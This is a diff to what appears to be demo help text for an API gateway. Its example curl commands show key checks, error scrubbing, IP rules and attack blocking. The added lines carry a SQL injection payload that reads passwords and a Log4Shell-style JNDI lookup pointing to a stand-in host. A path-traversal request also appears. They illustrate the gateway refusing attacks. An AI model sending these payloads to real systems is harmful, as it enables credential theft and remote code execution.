@@ -154,6 +154,10 @@ Try:
       while `Bearer demo-bob` (never issued through Warden) does not
   curl -i -H 'X-API-Key: {bob}' 'http://{gw}/search?q=%27'
       the API's stack trace becomes a generic problem+json (error_scrubbing)
+  curl -i -H 'X-API-Key: {bob}' \"http://{gw}/search?q=x%27%20UNION%20SELECT%20password%20FROM%20users--\"
+  curl -i -H 'X-API-Key: {bob}' -H 'User-Agent: ${{jndi:ldap://x.example/a}}' http://{gw}/users/2
+      403 problem+json: attacks are refused before the API sees them (attack_detection),
+      and the answer never repeats the payload
   curl -i -X DELETE -H 'X-API-Key: {bob}' http://{gw}/admin/users/2
       403 problem+json: /admin only admits 10.20.0.0/16 (the route's ip_rules)
   curl -i 'http://{gw}/users/../admin/users'
